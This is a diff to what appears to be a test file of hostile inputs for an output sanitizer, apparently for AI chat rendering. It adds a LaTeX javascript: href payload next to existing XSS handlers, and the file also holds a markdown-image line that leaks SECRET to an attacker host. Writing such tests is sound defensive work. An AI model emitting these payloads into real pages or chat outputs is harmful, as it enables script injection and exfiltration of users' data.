@@ -60,6 +60,7 @@ HTML = [
     "</pre></div><body onload=window.__pwned=1>",
     "<math><mtext><img src=x onerror=window.__pwned=1></mtext></math>",
     "<details ontoggle=window.__pwned=1 open>",
+    r"$\href{javascript:window.__pwned=1}{click}$ and \(\href{http://evil.example}{x}\), $$\style{color:red}{x}$$",
 ]
 LEAKS = [
     f"![status]({EVIL}/p.png?k=SECRET)",
@@ -111,7 +112,7 @@ _FLAGGED = {
     "instruction": True, "forged": True, "approval": True, "html": True, "leak": True, "hidden": False,
     "command": False, "query": False, "heavy": False,
 }  # fmt: skip
-_NOT = {"[runbook]", "![a][b]", "'-window", '{"role"', "[INST]"}
+_NOT = {"$\\href", "[runbook]", "![a][b]", "'-window", '{"role"', "[INST]"}
 """Those of a flagged kind of which a flag is not asked."""
 
 ALL = tuple(
